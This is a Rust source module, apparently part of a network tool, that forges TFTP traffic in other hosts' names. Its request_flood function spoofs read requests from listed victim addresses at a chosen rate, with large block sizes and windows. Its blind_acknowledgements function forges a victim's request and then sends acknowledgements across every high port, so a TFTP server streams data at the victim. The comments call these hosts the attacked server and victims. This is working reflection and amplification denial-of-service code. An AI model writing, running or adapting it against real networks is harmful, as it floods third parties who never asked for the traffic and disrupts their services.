//! TFTP in others' names.

use std::net::{Ipv4Addr, SocketAddrV4};

use pxe_common::MacAddr;

use super::frames::{Flood, Wire, udp_frame};

/// The port of TFTP.
const PORT: u16 = 69;
/// The window that blind acknowledgements ask for, in blocks.
const WINDOW: u16 = 64;

/// The server that is attacked.
#[derive(Clone, Copy, Debug)]
pub struct Target {
    /// Its MAC address.
    pub mac: MacAddr,
    /// Its address.
    pub address: Ipv4Addr,
}

/// Returns a read request for a file in large windows.
#[must_use]
pub fn request(file: &str, block_size: u16) -> Vec<u8> {
    format!("\0\x01{file}\0octet\0tsize\x000\0blksize\0{block_size}\0windowsize\0{WINDOW}\0").into_bytes()
}

/// Requests a file in the names of these hosts, this many times a second, each time from another port and by another request.
#[must_use]
pub fn request_flood(wire: Wire, target: Target, victims: Vec<Ipv4Addr>, file: &str, a_second: u32) -> Flood {
    let (file, macs) = (file.to_owned(), (wire.mac, target.mac));
    Flood::start(wire, a_second, move |number| {
        let victim = victims[number as usize % victims.len()];
        // Ports that firmware uses, and any others.
        let port = if number % 2 == 0 { 2070 } else { 1024 + (number.wrapping_mul(7919) % 64_000) as u16 };
        let request = request(&file, 512 + (number % 900) as u16);
        udp_frame(macs, SocketAddrV4::new(victim, port), SocketAddrV4::new(target.address, PORT), &request)
    })
}

/// Requests a file in a victim's name and acknowledges what the victim may have got, at every port that the server could use.
///
/// Returns the number of bytes that this took, with their headers.
///
/// # Errors
///
/// Fails if a frame cannot be sent.
pub fn blind_acknowledgements(
    wire: &Wire,
    target: Target,
    victim: SocketAddrV4,
    file: &str,
    windows: u16,
) -> anyhow::Result<u64> {
    let macs = (wire.mac, target.mac);
    let mut bytes = 0;
    let mut send = |port: u16, payload: &[u8]| {
        let frame = udp_frame(macs, victim, SocketAddrV4::new(target.address, port), payload);
        bytes += frame.len() as u64;
        wire.send(&frame)
    };
    send(PORT, &request(file, 1468))?;
    for port in 1024..=u16::MAX {
        for window in 0..windows {
            let [high, low] = (window * WINDOW).to_be_bytes();
            send(port, &[0, 4, high, low])?;
        }
    }
    Ok(bytes)
}
